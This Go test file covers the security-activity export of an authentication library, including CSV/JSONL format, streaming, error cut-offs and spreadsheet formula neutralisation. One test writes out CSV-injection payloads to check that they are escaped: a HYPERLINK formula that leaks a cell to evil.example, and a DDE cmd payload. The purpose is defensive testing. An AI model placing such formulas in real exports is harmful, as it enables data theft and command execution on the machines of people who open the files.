package pages

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"reflect"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/twinlatch/twinlatch"
)

// trail is what the core has, the newest first.
func (p *person) trail() (all []twinlatch.Event) {
	p.t.Helper()
	by := twinlatch.OnBehalf(p.id(), "test", "")
	for before := int64(0); ; before = all[len(all)-1].Seq {
		events, err := p.door.env.Events(p.t.Context(), by, before, 1000)
		if err != nil {
			p.t.Fatal(err)
		}
		if len(events) == 0 {
			return all
		}
		all = append(all, events...)
	}
}

// eventful has more than a thousand events, some of them with all that they can hold.
func eventful(t *testing.T) *history {
	t.Helper()
	h := historian(t)
	h.lives(1203, func(seq int) twinlatch.EventType { return []twinlatch.EventType{login, method, other}[seq%3] })
	h.app = h.enroll()
	h.ip = cafe4
	h.get("/verify").is(200)
	h.verify().goes(security)
	by := twinlatch.OnBehalf(h.account, "admin:ann", `She said: "please", twice`)
	factor := twinlatch.FactorID(factorIDs(h.get(security))[0])
	if err := h.door.env.RenameFactor(t.Context(), by, factor, "Žofie, “phone”; 1", twinlatch.Client{IP: netip.MustParseAddr(home6)}); err != nil {
		t.Fatal(err)
	}
	return h
}

// All events are in the file once, the newest first, with all that is known of
// them but what holds the chain together.
func TestDownloadCSV(t *testing.T) {
	t.Parallel()
	h := eventful(t)
	want := h.trail()
	for _, path := range []string{downloadPath, downloadPath + "?format=csv", downloadPath + "?show=signin&before=5"} {
		p := h.get(path).is(200)
		if got := p.header.Get("Content-Type"); got != "text/csv; charset=utf-8; header=present" {
			t.Errorf("%s: Content-Type %q", path, got)
		}
		if got := p.header.Get("Content-Disposition"); got != `attachment; filename="security-activity-2026-11-23.csv"` {
			t.Errorf("%s: Content-Disposition %q", path, got)
		}
		if lines := strings.Split(p.body, "\r\n"); len(lines) != len(want)+2 || lines[len(lines)-1] != "" || strings.Contains(strings.Join(lines, ""), "\n") {
			t.Errorf("%s: %d lines, which do not all end as RFC 4180 has it", path, len(lines))
		}
		rows, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.Join(rows[0], " "); got != "seq at type what reason actor why kind name ip user_agent more" {
			t.Errorf("%s: the columns are %s", path, got)
		}
		for i, row := range rows[1:] {
			if got := eventOf(t, rows[0], row); !reflect.DeepEqual(got, recorded(want[i])) {
				t.Fatalf("%s: line %d is %+v, want %+v", path, i+2, got, recorded(want[i]))
			}
		}
		if last := rows[len(rows)-1]; last[0] != "1" {
			t.Errorf("%s: the last line is %q", path, last)
		}
	}
	rows, _ := csv.NewReader(strings.NewReader(h.get(downloadPath).body)).ReadAll()
	if got := rows[1][3]; got != "Renamed: Authenticator app, Žofie, “phone”; 1" {
		t.Errorf("the newest says %q", got)
	}
}

func TestDownloadJSONLines(t *testing.T) {
	t.Parallel()
	h := eventful(t)
	want := h.trail()
	p := h.get(downloadPath + "?format=jsonl").is(200)
	if got := p.header.Get("Content-Type"); got != "application/jsonl; charset=utf-8" {
		t.Errorf("Content-Type %q", got)
	}
	if got := p.header.Get("Content-Disposition"); got != `attachment; filename="security-activity-2026-11-23.jsonl"` {
		t.Errorf("Content-Disposition %q", got)
	}
	lines := strings.Split(p.body, "\n")
	if len(lines) != len(want)+1 || lines[len(want)] != "" {
		t.Fatalf("%d lines for %d events", len(lines), len(want))
	}
	for i, line := range lines[:len(want)] {
		var got jsonLine
		d := json.NewDecoder(strings.NewReader(line))
		d.DisallowUnknownFields()
		if err := d.Decode(&got); err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(got, recorded(want[i])) {
			t.Fatalf("line %d is %+v, want %+v", i+1, got, recorded(want[i]))
		}
	}
}

// recorded is what a file has of an event.
func recorded(e twinlatch.Event) jsonLine {
	l := jsonLine{Seq: e.Seq, At: e.At.UTC(), Type: e.Type, Actor: e.Actor, UserAgent: e.Detail.UserAgent, More: e.Detail.More}
	if e.Detail.IP.IsValid() {
		l.IP = e.Detail.IP.String()
	}
	return l
}

// eventOf puts a line of CSV together again.
func eventOf(t *testing.T, columns, row []string) (l jsonLine) {
	t.Helper()
	cell := map[string]string{}
	for i, name := range columns {
		cell[name] = row[i]
	}
	if err := json.Unmarshal([]byte(cell["seq"]), &l.Seq); err != nil {
		t.Fatal(err)
	}
	var err error
	if l.At, err = time.Parse(time.RFC3339Nano, cell["at"]); err != nil {
		t.Fatal(err)
	}
	l.Type, l.Actor, l.IP, l.UserAgent = twinlatch.EventType(cell["type"]), cell["actor"], cell["ip"], cell["user_agent"]
	if cell["more"] != "" {
		if err := json.Unmarshal([]byte(cell["more"]), &l.More); err != nil {
			t.Fatal(err)
		}
	}
	for _, key := range []string{"reason", "why", "kind", "name"} {
		if cell[key] != "" {
			if l.More == nil {
				l.More = map[string]string{}
			}
			l.More[key] = cell[key]
		}
	}
	if len(l.More) == 0 {
		l.More = nil
	}
	return l
}

// People and browsers choose what they are called. No spreadsheet takes that for
// a formula.
func TestDownloadIsInert(t *testing.T) {
	t.Parallel()
	for _, formula := range []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠A1", "="} {
		if got := inert(formula); got != "'"+formula {
			t.Errorf("%q becomes %q", formula, got)
		}
	}
	for _, text := range []string{"", "a=1", "1-1", "'=1", " x", "Ana", "{\"a\":\"=1\"}", "š=", "192.0.2.1"} {
		if got := inert(text); got != text {
			t.Errorf("%q becomes %q", text, got)
		}
	}

	ana := newDoor(t).anaWithApp(t)
	rename := security + "/factors/" + factorIDs(ana.get(security))[0] + "/rename"
	names := []string{`=HYPERLINK("https://evil.example?"&A1,"Phone")`, "+44 7700 900001", "-2+3", "@SUM(1)", `a","=1+1`, "=cmd|' /C calc'!A0"}
	ana.header.Set("User-Agent", "=1+1 curl/8")
	for _, name := range names {
		ana.post(rename, "name", name).goes(security)
	}
	rows, err := csv.NewReader(strings.NewReader(ana.get(downloadPath).is(200).body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, name := range slices.Backward(names) {
		row := rows[len(names)-i]
		if want := strings.TrimPrefix("'"+name, map[bool]string{true: "'"}[name[0] == 'a']); row[8] != want || row[10] != "'=1+1 curl/8" {
			t.Errorf("%q becomes %q, and the browser %q", name, row[8], row[10])
		}
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.Contains("=+-@\t\r\n", cell[:1]) {
				t.Errorf("a cell begins with %q: %q", cell[:1], cell)
			}
		}
	}
	// JSON is for programs, and has what was typed.
	if body := ana.get(downloadPath + "?format=jsonl").is(200).body; !strings.Contains(body, `"name":"+44 7700 900001"`) {
		t.Error("the name is not in the lines of JSON as it was typed")
	}
}

func TestDownloadAddresses(t *testing.T) {
	t.Parallel()
	ana := newDoor(t).ana(t)
	for _, format := range []string{"x", "CSV", "json", "csv%00", "../csv", "csv%22"} {
		p := ana.get(downloadPath + "?format=" + format).is(404)
		if p.header.Get("Content-Disposition") != "" {
			t.Errorf("%s: a file", format)
		}
	}
	head := ana.send(ana.request("HEAD", downloadPath, "")).is(200)
	if head.body != "" || !strings.HasPrefix(head.header.Get("Content-Disposition"), "attachment") {
		t.Errorf("HEAD: %q, %v", head.body, head.header)
	}
}

// watched lets a test do something before the n-th time that events are read.
type watched struct {
	twinlatch.Store
	reads  atomic.Int64
	before func(ctx context.Context, n int64) error
}

func (s *watched) View(ctx context.Context, id twinlatch.AccountID, fn func(twinlatch.View) error) error {
	return s.Store.View(ctx, id, func(v twinlatch.View) error { return fn(watchedView{v, ctx, s}) })
}

type watchedView struct {
	twinlatch.View
	ctx   context.Context
	store *watched
}

func (v watchedView) Events(before int64, n int) ([]twinlatch.Event, error) {
	if v.store.before != nil {
		if err := v.store.before(v.ctx, v.store.reads.Add(1)); err != nil {
			return nil, err
		}
	}
	return v.View.Events(before, n)
}

// downloader is somebody with 2,600 events, which are read in six turns, and a
// server that they download them from.
func downloader(t *testing.T, before func(ctx context.Context, n int64) error) (*history, *watched, func(context.Context) (*http.Response, error)) {
	t.Helper()
	store := new(watched)
	h := historianOn(t, func(c *twinlatch.Config) { store.Store = c.Store; c.Store = store })
	h.lives(2600, func(int) twinlatch.EventType { return login })
	store.before = before
	server := httptest.NewServer(h.door)
	t.Cleanup(server.Close)
	return h, store, func(ctx context.Context) (*http.Response, error) {
		r, err := http.NewRequestWithContext(ctx, "GET", server.URL+downloadPath, nil)
		if err != nil {
			return nil, err
		}
		r.AddCookie(&http.Cookie{Name: h.door.cookie.Name(), Value: h.token()})
		return server.Client().Do(r)
	}
}

// The file is sent as it is read: its beginning has arrived before its end is
// looked for.
func TestDownloadIsStreamed(t *testing.T) {
	t.Parallel()
	arrived := make(chan bool)
	_, store, download := downloader(t, func(ctx context.Context, n int64) error {
		if n == 2 {
			select {
			case <-arrived:
			case <-ctx.Done():
			}
		}
		return nil
	})
	res, err := download(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body := bufio.NewReader(res.Body)
	for range atOnce + 1 {
		if _, err := body.ReadString('\n'); err != nil {
			t.Fatal(err)
		}
	}
	close(arrived)
	rest, err := csv.NewReader(body).ReadAll()
	if err != nil || len(rest) != 2600-atOnce || rest[len(rest)-1][0] != "1" {
		t.Errorf("%d lines of the rest, %v", len(rest), err)
	}
	if n := store.reads.Load(); n != 7 { // the seventh finds nothing more
		t.Errorf("read %d times", n)
	}
}

// What breaks on the way breaks the download. Nobody takes a part for the whole.
func TestDownloadBreaksOff(t *testing.T) {
	t.Parallel()
	t.Run("at the beginning there is a page that says so", func(t *testing.T) {
		t.Parallel()
		h, _, _ := downloader(t, func(context.Context, int64) error { return errors.New("the disk is gone") })
		p := h.get(downloadPath).is(500).says("Something went wrong on our side.")
		if p.header.Get("Content-Disposition") != "" {
			t.Error("the page is a file")
		}
	})
	t.Run("later the connection is cut", func(t *testing.T) {
		t.Parallel()
		h, _, download := downloader(t, func(_ context.Context, n int64) error {
			if n == 4 {
				return errors.New("the disk is gone")
			}
			return nil
		})
		res, err := download(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		if body, err := io.ReadAll(res.Body); !errors.Is(err, io.ErrUnexpectedEOF) || strings.Contains(string(body), "wrong") {
			t.Errorf("%d bytes, %v", len(body), err)
		}
		if log := h.door.log.String(); !strings.Contains(log, "level=ERROR msg=\"download cut\"") || !strings.Contains(log, "the disk is gone") {
			t.Errorf("the log does not say why: %s", log)
		}
	})
	t.Run("also when the session is ended meanwhile", func(t *testing.T) {
		t.Parallel()
		var h *history
		var ended atomic.Bool
		h, _, download := downloader(t, func(ctx context.Context, n int64) error {
			if n == 2 && !ended.Swap(true) {
				return h.door.env.EndOtherSessions(ctx, twinlatch.OnBehalf(h.account, "test", ""), twinlatch.Client{})
			}
			return nil
		})
		res, err := download(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		body, err := io.ReadAll(res.Body)
		if lines := strings.Count(string(body), "\n"); !errors.Is(err, io.ErrUnexpectedEOF) || lines > 2*atOnce+1 {
			t.Errorf("%d lines, %v", lines, err)
		}
		if log := h.door.log.String(); strings.Contains(log, "level=ERROR") {
			t.Errorf("it is taken for our error: %s", log)
		}
	})
}

// Nothing is read for a client that has gone.
func TestDownloadStopsWhenTheClientGoes(t *testing.T) {
	t.Parallel()
	done, stopped := context.WithCancel(t.Context())
	seen := make(chan bool)
	h, store, download := downloader(t, func(ctx context.Context, n int64) error {
		if n == 3 {
			stopped()
			<-ctx.Done() // of the request, as the server learns of it
			close(seen)
		}
		return nil
	})
	res, err := download(done)
	if err == nil {
		_, err = io.Copy(io.Discard, res.Body)
		_ = res.Body.Close()
	}
	if !errors.Is(err, context.Canceled) {
		t.Errorf("the client met %v", err)
	}
	<-seen
	if n := store.reads.Load(); n != 3 {
		t.Errorf("read %d times", n)
	}
	if log := h.door.log.String(); strings.Contains(log, "level=ERROR") {
		t.Errorf("it is taken for our error: %s", log)
	}
}

// limited is a connection that notes its new time limits.
type limited struct {
	*httptest.ResponseRecorder
	limits int
}

func (w *limited) SetWriteDeadline(end time.Time) error {
	w.limits++
	return nil
}

// The server's time limit is for a page. A long file gets new time for each turn,
// so that a slow client gets it whole.
func TestDownloadGetsTimeForEachTurn(t *testing.T) {
	t.Parallel()
	h, _, _ := downloader(t, nil)
	r := httptest.NewRequest("GET", downloadPath, nil)
	r.AddCookie(&http.Cookie{Name: h.door.cookie.Name(), Value: h.token()})
	w := &limited{ResponseRecorder: httptest.NewRecorder()}
	h.door.ServeHTTP(w, r)
	if w.Code != 200 || w.limits != 6 || !w.Flushed {
		t.Errorf("status %d, new time %d times, flushed: %v", w.Code, w.limits, w.Flushed)
	}
}

// Reading all of it leaves no trace in it.
func TestDownloadChangesNothing(t *testing.T) {
	t.Parallel()
	ana := newDoor(t).anaWithApp(t)
	before := ana.trail()
	ana.get(downloadPath).is(200)
	ana.get(downloadPath + "?format=jsonl").is(200)
	after := ana.trail()
	same := func(a, b twinlatch.Event) bool { return a.Seq == b.Seq && maps.Equal(a.Detail.More, b.Detail.More) }
	if !slices.EqualFunc(before, after, same) {
		t.Errorf("%d events before, %d after", len(before), len(after))
	}
}
